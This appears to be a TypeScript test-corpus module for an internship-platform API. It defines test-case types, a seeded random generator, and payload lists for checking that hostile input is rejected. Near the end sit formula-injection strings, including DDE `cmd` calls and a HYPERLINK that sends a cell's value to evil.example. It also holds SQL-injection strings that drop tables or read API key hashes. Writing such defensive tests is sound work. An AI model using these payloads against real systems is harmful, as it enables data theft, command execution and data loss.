// The shape of a corpus case and the seeded generator every part of the corpus draws from.
import type { Tenant } from './files.js'

/** What the API must answer. Every status is a 4xx. */
export interface Expectation {
  readonly status: readonly number[]
  /** The problem `type` slug, when the case pins it. */
  readonly type?: string
  /** Something the `detail` must say. */
  readonly detail?: RegExp
  /** For a file's contents: one of the row errors must be this (row, column, message). */
  readonly rowError?: { readonly row?: number; readonly column?: string; readonly message: RegExp }
}

export type Who = 'admin' | 'schoolA' | 'group' | 'companyX'

export interface Case {
  readonly id: string
  readonly category: string
  readonly who: Who | null
  readonly method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE'
  readonly url: string
  readonly payload?: string | Buffer
  readonly headers?: Readonly<Record<string, string>>
  readonly expect: Expectation
}

/** Ids of the world the requests point at: real ones, so a body that passes validation reaches the database. */
export interface CorpusContext {
  readonly tenant: Tenant
  /** The tenant school's id (its own data: PATCH /school/schools/:id/profile). */
  readonly schoolId: string
  readonly placeId: string
  readonly studentId: string
  readonly proposalId: string
  readonly runId: string
  /** A mentor of the tenant's company (registered through POST /company/mentors), linked to `placeId`. */
  readonly mentorId: string
  /** The e-mail of the company's other mentor: PATCHing the first one to it is a conflict. */
  readonly otherMentorEmail: string
  /** A recognition of the tenant's company (declared through PUT /company/recognitions). */
  readonly recognitionId: string
  /** The vestigingseenheidsnummer and programme of that recognition. */
  readonly establishmentNumber: string
  readonly programme: number
}

/** A small seeded PRNG (mulberry32): the same seed gives the same corpus on every machine. */
export function prng(seed: number) {
  let a = seed >>> 0
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0
    let t = a
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
  return {
    next,
    int: (min: number, max: number) => min + Math.floor(next() * (max - min + 1)),
    pick: <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)]!,
    bytes: (n: number) => Uint8Array.from({ length: n }, () => Math.floor(next() * 256)),
  }
}
export type Rng = ReturnType<typeof prng>

export const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '+1+1',
  '-2+3+cmd|" /C calc"!A0',
  '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
  '\t=1+1',
  '=1+1\r',
] as const

export const SQLISH = [
  "'; DROP TABLE student; --",
  "1' OR '1'='1",
  '1; SELECT pg_sleep(10)',
  "x' UNION SELECT key_hash FROM api_key --",
  '$$; TRUNCATE upload; $$',
  '\\x00\\x27 OR 1=1',
] as const
